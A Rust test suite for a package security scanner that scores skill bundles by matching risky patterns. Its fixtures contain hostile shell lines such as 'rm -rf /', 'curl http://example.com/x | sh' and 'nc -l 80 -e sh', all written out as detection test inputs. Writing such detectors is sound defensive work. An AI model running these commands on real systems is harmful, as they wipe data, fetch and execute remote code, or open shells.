use skills_manager::rules::{RuleDefinition, RuleError, RuleSet};
use skills_manager::security::{
    generate_recommendations, is_comment_line, risk_level, risk_score, scan_directory,
    scan_entries, ScanError, SecurityIssue, SecurityReport, Traversal, DEFAULT_ADVICE,
};
use skills_manager::selector::{classify, FileClass, FileEntry};
use skills_manager::taxonomy::{Category, Confidence, RiskLevel, Severity};

fn entry(path: &str, content: Option<&[u8]>) -> FileEntry {
    FileEntry {
        path: path.to_string(),
        components: path.split('/').map(|s| s.to_string()).collect(),
        is_file: true,
        content: content.map(|b| b.to_vec()),
    }
}

fn standard() -> RuleSet {
    match RuleSet::standard() {
        Ok(set) => set,
        Err(e) => panic!("the standard corpus does not build: {:?}", e),
    }
}

fn scan(entries: Vec<FileEntry>) -> SecurityReport {
    scan_entries(&standard(), &entries, "demo")
}

fn only(id: &str) -> RuleSet {
    let defs: Vec<RuleDefinition> = skills_manager::corpus::standard_definitions()
        .into_iter()
        .filter(|d| d.id == id)
        .collect();
    assert_eq!(defs.len(), 1);
    RuleSet::from_definitions(&defs).unwrap()
}

fn ids(report: &SecurityReport) -> Vec<String> {
    report.issues.iter().map(|i| i.rule_id.clone()).collect()
}

#[test]
fn standard_corpus_builds_with_all_rules_in_order() {
    let set = standard();
    let rules = set.rules();
    assert_eq!(rules.len(), 54);
    assert_eq!(rules[0].id, "RM_RF_ROOT");
    assert_eq!(rules[0].weight, 100);
    assert!(rules[0].hard_trigger);
    assert_eq!(rules[25].id, "WGET_EXEC");
    assert_eq!(rules[25].weight, 90);
    assert!(rules[25].hard_trigger);
    assert_eq!(rules[53].id, "CRYPTO_WALLET");
    let mut seen = std::collections::HashSet::new();
    for r in rules.iter() {
        assert!(seen.insert(r.id), "id {} occurs twice", r.id);
    }
}

#[test]
fn registry_refuses_a_pattern_that_does_not_compile() {
    let defs = vec![
        RuleDefinition::new("A", "a", "ok", Severity::Low, Category::Network, 1, "d", false, Confidence::Low),
        RuleDefinition::new("B", "b", "(unclosed", Severity::Low, Category::Network, 1, "d", false, Confidence::Low),
    ];
    match RuleSet::from_definitions(&defs) {
        Err(e) => assert_eq!(e, RuleError::InvalidPattern(1)),
        Ok(_) => panic!("a broken pattern was accepted"),
    }
}

#[test]
fn registry_refuses_a_repeated_id() {
    let defs = vec![
        RuleDefinition::new("A", "a", "x", Severity::Low, Category::Network, 1, "d", false, Confidence::Low),
        RuleDefinition::new("B", "b", "y", Severity::Low, Category::Network, 1, "d", false, Confidence::Low),
        RuleDefinition::new("A", "c", "z", Severity::Low, Category::Network, 1, "d", false, Confidence::Low),
    ];
    match RuleSet::from_definitions(&defs) {
        Err(e) => assert_eq!(e, RuleError::DuplicateId(2)),
        Ok(_) => panic!("a repeated id was accepted"),
    }
}

#[test]
fn empty_package_is_safe() {
    let report = scan(vec![]);
    assert_eq!(report.skill_id, "demo");
    assert_eq!(report.score, 100);
    assert_eq!(report.level, "safe");
    assert!(!report.blocked);
    assert!(report.issues.is_empty());
    assert!(report.scanned_files.is_empty());
    assert_eq!(report.recommendations, vec![DEFAULT_ADVICE.to_string()]);
}

#[test]
fn benign_package_is_safe() {
    let report = scan(vec![
        entry("pkg/SKILL.md", Some(b"# A title\n\nThis skill formats tables.\n")),
        entry("pkg/run.py", Some(b"print('hello')\n")),
    ]);
    assert_eq!(report.score, 100);
    assert_eq!(report.level, "safe");
    assert!(!report.blocked);
    assert!(report.issues.is_empty());
    assert_eq!(report.scanned_files, vec!["pkg/SKILL.md".to_string(), "pkg/run.py".to_string()]);
    assert_eq!(report.recommendations, vec![DEFAULT_ADVICE.to_string()]);
}

#[test]
fn missing_directory_gives_the_report_of_an_empty_package() {
    let report = scan_directory(&standard(), &Traversal::Missing, "gone").unwrap();
    assert_eq!(report.skill_id, "gone");
    assert_eq!(report.score, 100);
    assert_eq!(report.level, "safe");
    assert!(report.issues.is_empty());
}

#[test]
fn unopenable_directory_is_the_one_failure() {
    match scan_directory(&standard(), &Traversal::Unopenable, "x") {
        Err(e) => assert_eq!(e, ScanError::RootUnreadable),
        Ok(_) => panic!("a report was given for a directory that could not be walked"),
    }
}

#[test]
fn walked_directory_is_scanned() {
    let walk = Traversal::Walked(vec![entry("pkg/a.sh", Some(b"chmod 777 x\n"))]);
    let report = scan_directory(&standard(), &walk, "w").unwrap();
    assert_eq!(ids(&report), vec!["CHMOD_777"]);
    assert_eq!(report.score, 60);
    assert_eq!(report.level, "medium");
}

#[test]
fn root_wipe_blocks_whatever_else_is_there() {
    let report = scan(vec![
        entry("pkg/readme.md", Some(b"harmless\n")),
        entry("pkg/clean.sh", Some(b"echo start\nrm -rf /\necho done\n")),
    ]);
    assert!(report.blocked);
    assert_eq!(report.level, "critical");
    assert!(ids(&report).contains(&"RM_RF_ROOT".to_string()));
    let issue = report.issues.iter().find(|i| i.rule_id == "RM_RF_ROOT").unwrap();
    assert_eq!(issue.file, "pkg/clean.sh");
    assert_eq!(issue.line, 2);
    assert_eq!(issue.code, "rm -rf /");
    assert_eq!(issue.severity, Severity::Critical);
    assert_eq!(issue.category, Category::Destructive);
    assert_eq!(issue.confidence, Confidence::High);
}

#[test]
fn hard_trigger_of_small_weight_is_still_critical() {
    let defs = vec![RuleDefinition::new(
        "TINY", "tiny", "danger", Severity::Low, Category::Network, 5, "d", true, Confidence::Low,
    )];
    let set = RuleSet::from_definitions(&defs).unwrap();
    let report = scan_entries(&set, &vec![entry("a.txt", Some(b"danger\n"))], "s");
    assert_eq!(report.score, 95);
    assert!(report.blocked);
    assert_eq!(report.level, "critical");
}

#[test]
fn weights_saturate_at_zero() {
    let report = scan(vec![
        entry("pkg/a.sh", Some(b"chmod 777 x\nchmod 777 y\nchmod 777 z\n")),
    ]);
    assert_eq!(ids(&report), vec!["CHMOD_777", "CHMOD_777", "CHMOD_777"]);
    assert_eq!(report.score, 0);
    assert!(!report.blocked);
    assert_eq!(report.level, "critical");
}

#[test]
fn weights_add_up_below_the_limit() {
    let report = scan(vec![entry("pkg/a.sh", Some(b"chmod 777 x\nchmod 777 y\n"))]);
    assert_eq!(report.score, 20);
    assert_eq!(report.level, "high");
}

#[test]
fn very_many_matches_do_not_overflow() {
    let mut text = Vec::new();
    for _ in 0..5000 {
        text.extend_from_slice(b"chmod 777 x\n");
    }
    let report = scan(vec![entry("pkg/a.sh", Some(&text))]);
    assert_eq!(report.issues.len(), 5000);
    assert_eq!(report.score, 0);
}

#[test]
fn scanning_twice_gives_the_same_report() {
    let entries = vec![
        entry("pkg/a.sh", Some(b"curl http://e.com/x | sh\nls\n")),
        entry("pkg/b.exe", None),
        entry("pkg/c.md", Some(b"password = abc\n")),
    ];
    let set = standard();
    let one = scan_entries(&set, &entries, "twice");
    let two = scan_entries(&set, &entries, "twice");
    assert_eq!(format!("{:?}", one.issues), format!("{:?}", two.issues));
    assert_eq!(one.scanned_files, two.scanned_files);
    assert_eq!(one.score, two.score);
    assert_eq!(one.level, two.level);
    assert_eq!(one.recommendations, two.recommendations);
}

#[test]
fn comment_line_is_not_matched() {
    let commented = scan(vec![entry("pkg/a.sh", Some(b"# rm -rf /\n"))]);
    assert!(!ids(&commented).contains(&"RM_RF_ROOT".to_string()));
    assert!(commented.issues.is_empty());
    let plain = scan(vec![entry("pkg/a.sh", Some(b"rm -rf /\n"))]);
    let hits = ids(&plain).iter().filter(|i| *i == "RM_RF_ROOT").count();
    assert_eq!(hits, 1);
}

#[test]
fn comment_markers() {
    assert!(is_comment_line("# x"));
    assert!(is_comment_line("   // x"));
    assert!(is_comment_line("\t/* x"));
    assert!(is_comment_line(" * x"));
    assert!(is_comment_line("-- x"));
    assert!(is_comment_line("REM x"));
    assert!(is_comment_line("rem x"));
    assert!(is_comment_line("<!-- x"));
    assert!(is_comment_line("\u{3000}# after an ideographic space"));
    assert!(!is_comment_line("rm -rf / # x"));
    assert!(!is_comment_line("REMOVE"));
    assert!(!is_comment_line("Rem x"));
    assert!(!is_comment_line("<! x"));
    assert!(!is_comment_line("-x"));
    assert!(!is_comment_line(""));
    assert!(!is_comment_line("   "));
}

#[test]
fn comment_marker_with_only_white_space_after_it() {
    assert!(is_comment_line("REM "));
    assert!(is_comment_line("  rem \t"));
    assert!(!is_comment_line("REM"));
}

#[test]
fn binary_is_flagged_and_never_read() {
    let report = scan(vec![entry("pkg/payload.exe", Some(b"rm -rf /\n"))]);
    assert_eq!(report.issues.len(), 1);
    let issue = &report.issues[0];
    assert_eq!(issue.rule_id, "BINARY_EXECUTABLE");
    assert_eq!(issue.severity, Severity::Critical);
    assert_eq!(issue.category, Category::RemoteExec);
    assert_eq!(issue.confidence, Confidence::High);
    assert_eq!(issue.file, "pkg/payload.exe");
    assert_eq!(issue.line, 0);
    assert!(issue.code.ends_with(": payload.exe"));
    assert!(report.blocked);
    assert_eq!(report.score, 0);
    assert_eq!(report.level, "critical");
    assert_eq!(report.scanned_files, vec!["pkg/payload.exe".to_string()]);
}

#[test]
fn empty_binary_is_flagged_too() {
    for content in [None, Some(&b""[..])] {
        let report = scan(vec![entry("payload.exe", content)]);
        assert_eq!(ids(&report), vec!["BINARY_EXECUTABLE"]);
        assert!(report.blocked);
        assert_eq!(report.scanned_files.len(), 1);
    }
}

#[test]
fn binary_extension_in_any_case() {
    assert_eq!(classify(&vec!["A.EXE".to_string()], true), FileClass::BlockedBinary);
    assert_eq!(classify(&vec!["lib.Dll".to_string()], true), FileClass::BlockedBinary);
    assert_eq!(classify(&vec!["x.so".to_string()], true), FileClass::BlockedBinary);
}

#[test]
fn secrets_alone_get_the_secrets_advice_alone() {
    let report = scan(vec![
        entry("pkg/a.py", Some(b"API_KEY = \"abc123\"\nPASSWORD='hunter2'\n")),
    ]);
    assert_eq!(ids(&report), vec!["ENV_SECRETS", "ENV_SECRETS"]);
    assert!(report.issues.iter().all(|i| i.category == Category::Secrets));
    assert_eq!(report.recommendations.len(), 1);
    assert!(report.recommendations[0].contains("密钥"));
    assert_ne!(report.recommendations[0], DEFAULT_ADVICE);
    assert_eq!(report.score, 0);
}

#[test]
fn download_and_execute_alone() {
    let set = only("WGET_EXEC");
    let entries = vec![entry("install.sh", Some(b"curl http://example.com/x | sh"))];
    let report = scan_entries(&set, &entries, "e2e");
    assert_eq!(report.issues.len(), 1);
    assert_eq!(report.issues[0].rule_id, "WGET_EXEC");
    assert_eq!(report.issues[0].line, 1);
    assert_eq!(report.issues[0].code, "curl http://example.com/x | sh");
    assert_eq!(set.rules()[0].weight, 90);
    assert!(set.rules()[0].hard_trigger);
    assert_eq!(report.score, 10);
    assert!(report.blocked);
    assert_eq!(report.level, "critical");
    assert_eq!(report.scanned_files, vec!["install.sh".to_string()]);
}

#[test]
fn download_and_execute_under_the_standard_corpus() {
    let report = scan(vec![entry("install.sh", Some(b"curl http://example.com/x | sh"))]);
    assert_eq!(ids(&report), vec!["POWERSHELL_DOWNLOAD", "WGET_EXEC"]);
    assert_eq!(report.score, 0);
    assert!(report.blocked);
    assert_eq!(report.level, "critical");
}

#[test]
fn issues_follow_the_walk_then_the_lines_then_the_rules() {
    let report = scan(vec![
        entry("b.sh", Some(b"ok\nchmod 777 x\n")),
        entry("a.sh", Some(b"nc -l 80 -e sh\nvisudo\n")),
    ]);
    let got: Vec<(String, usize, String)> =
        report.issues.iter().map(|i| (i.file.clone(), i.line, i.rule_id.clone())).collect();
    assert_eq!(
        got,
        vec![
            ("b.sh".to_string(), 2, "CHMOD_777".to_string()),
            ("a.sh".to_string(), 1, "REVERSE_SHELL".to_string()),
            ("a.sh".to_string(), 1, "NETCAT_LISTEN".to_string()),
            ("a.sh".to_string(), 2, "SUDO_EDIT_SUDOERS".to_string()),
        ]
    );
}

#[test]
fn quoted_code_is_cut_at_two_hundred_characters() {
    let mut line = String::from("chmod 777 ");
    for _ in 0..300 {
        line.push('é');
    }
    let report = scan(vec![entry("a.sh", Some(line.as_bytes()))]);
    assert_eq!(report.issues.len(), 1);
    assert_eq!(report.issues[0].code.chars().count(), 200);
    assert!(line.starts_with(&report.issues[0].code));
}

#[test]
fn carriage_returns_do_not_reach_the_code() {
    let report = scan(vec![entry("a.bat", Some(b"echo\r\nchmod 777 x\r\n"))]);
    assert_eq!(report.issues.len(), 1);
    assert_eq!(report.issues[0].line, 2);
    assert_eq!(report.issues[0].code, "chmod 777 x");
}

#[test]
fn undecodable_file_is_recorded_and_gives_nothing() {
    let report = scan(vec![entry("a.sh", Some(&[0x72, 0x6d, 0xff, 0xfe, 0x0a]))]);
    assert!(report.issues.is_empty());
    assert_eq!(report.scanned_files, vec!["a.sh".to_string()]);
    assert_eq!(report.score, 100);
}

#[test]
fn unreadable_file_is_passed_over() {
    let report = scan(vec![entry("a.sh", None)]);
    assert!(report.issues.is_empty());
    assert!(report.scanned_files.is_empty());
}

#[test]
fn pruned_directories_are_left_out() {
    let bad: &[u8] = b"rm -rf /\n";
    let report = scan(vec![
        entry("pkg/.git/hook.sh", Some(bad)),
        entry("pkg/node_modules/x/a.js", Some(bad)),
        entry("pkg/__pycache__/a.py", Some(bad)),
        entry("pkg/target/a.sh", Some(bad)),
        entry("pkg/.hidden.sh", Some(bad)),
        entry("pkg/tool.exe/readme.md", Some(b"fine\n")),
    ]);
    assert!(report.issues.is_empty());
    assert_eq!(report.scanned_files, vec!["pkg/tool.exe/readme.md".to_string()]);
}

#[test]
fn directories_are_not_scanned() {
    let mut dir = entry("pkg/sub.exe", None);
    dir.is_file = false;
    assert_eq!(classify(&dir.components, false), FileClass::NotAFile);
    let report = scan(vec![dir]);
    assert!(report.issues.is_empty());
    assert!(report.scanned_files.is_empty());
}

#[test]
fn which_files_are_read() {
    let c = |name: &str| classify(&vec!["pkg".to_string(), name.to_string()], true);
    assert_eq!(c("a.md"), FileClass::Scannable);
    assert_eq!(c("a.SH"), FileClass::Scannable);
    assert_eq!(c("Makefile"), FileClass::Scannable);
    assert_eq!(c("LICENSE"), FileClass::Scannable);
    assert_eq!(c("trailing."), FileClass::Scannable);
    assert_eq!(c("skill.bin"), FileClass::Scannable);
    assert_eq!(c("my-Skill-pack.dat"), FileClass::Scannable);
    assert_eq!(c("image.png"), FileClass::Skipped);
    assert_eq!(c("archive.tar.gz"), FileClass::Skipped);
    assert_eq!(c("a.md.exe"), FileClass::BlockedBinary);
    assert_eq!(c("skill.exe"), FileClass::BlockedBinary);
    assert_eq!(c(".env"), FileClass::Excluded);
    assert_eq!(classify(&vec![], true), FileClass::Scannable);
}

#[test]
fn skipped_file_is_neither_read_nor_recorded() {
    let report = scan(vec![entry("pkg/image.png", Some(b"rm -rf /\n"))]);
    assert!(report.issues.is_empty());
    assert!(report.scanned_files.is_empty());
}

#[test]
fn score_formula() {
    assert_eq!(risk_score(0), 100);
    assert_eq!(risk_score(1), 99);
    assert_eq!(risk_score(40), 60);
    assert_eq!(risk_score(99), 1);
    assert_eq!(risk_score(100), 0);
    assert_eq!(risk_score(101), 0);
    assert_eq!(risk_score(u32::MAX), 0);
}

#[test]
fn level_thresholds() {
    assert_eq!(risk_level(100, false), RiskLevel::Safe);
    assert_eq!(risk_level(90, false), RiskLevel::Safe);
    assert_eq!(risk_level(89, false), RiskLevel::Low);
    assert_eq!(risk_level(75, false), RiskLevel::Low);
    assert_eq!(risk_level(74, false), RiskLevel::Medium);
    assert_eq!(risk_level(50, false), RiskLevel::Medium);
    assert_eq!(risk_level(49, false), RiskLevel::High);
    assert_eq!(risk_level(20, false), RiskLevel::High);
    assert_eq!(risk_level(19, false), RiskLevel::Critical);
    assert_eq!(risk_level(0, false), RiskLevel::Critical);
    assert_eq!(risk_level(100, true), RiskLevel::Critical);
}

#[test]
fn taxonomy_tokens() {
    assert_eq!(RiskLevel::Safe.as_str(), "safe");
    assert_eq!(RiskLevel::Low.as_str(), "low");
    assert_eq!(RiskLevel::Medium.as_str(), "medium");
    assert_eq!(RiskLevel::High.as_str(), "high");
    assert_eq!(RiskLevel::Critical.as_str(), "critical");
    assert_eq!(Severity::Critical.as_str(), "critical");
    assert_eq!(Severity::Low.as_str(), "low");
    assert_eq!(Confidence::Medium.as_str(), "medium");
    assert_eq!(Category::RemoteExec.as_str(), "remote_exec");
    assert_eq!(Category::CmdInjection.as_str(), "cmd_injection");
    assert_eq!(Category::SensitiveFileAccess.as_str(), "sensitive_file_access");
    assert_eq!(Category::Destructive.as_str(), "destructive");
}

fn issue_in(category: Category) -> SecurityIssue {
    SecurityIssue {
        rule_id: "R".to_string(),
        rule_name: "r".to_string(),
        file: "f".to_string(),
        line: 1,
        code: "c".to_string(),
        severity: Severity::Low,
        category,
        description: "d".to_string(),
        confidence: Confidence::Low,
    }
}

#[test]
fn advice_is_given_once_per_category_in_fixed_order() {
    let issues = vec![
        issue_in(Category::SensitiveFileAccess),
        issue_in(Category::Secrets),
        issue_in(Category::Destructive),
        issue_in(Category::Secrets),
        issue_in(Category::Privilege),
    ];
    let advice = generate_recommendations(&issues);
    assert_eq!(advice.len(), 4);
    let alone = |c: Category| generate_recommendations(&vec![issue_in(c)]).remove(0);
    assert_eq!(advice[0], alone(Category::Destructive));
    assert_eq!(advice[1], alone(Category::Secrets));
    assert_eq!(advice[2], alone(Category::Privilege));
    assert_eq!(advice[3], alone(Category::SensitiveFileAccess));
}

#[test]
fn advice_for_every_category_and_for_none() {
    let all = [
        Category::Destructive,
        Category::CmdInjection,
        Category::RemoteExec,
        Category::Network,
        Category::Secrets,
        Category::Persistence,
        Category::Privilege,
        Category::SensitiveFileAccess,
    ];
    let issues: Vec<SecurityIssue> = all.iter().rev().map(|c| issue_in(*c)).collect();
    let advice = generate_recommendations(&issues);
    assert_eq!(advice.len(), 8);
    for (i, c) in all.iter().enumerate() {
        assert_eq!(generate_recommendations(&vec![issue_in(*c)]), vec![advice[i].clone()]);
    }
    let mut distinct = advice.clone();
    distinct.sort();
    distinct.dedup();
    assert_eq!(distinct.len(), 8);
    assert_eq!(generate_recommendations(&vec![]), vec![DEFAULT_ADVICE.to_string()]);
}
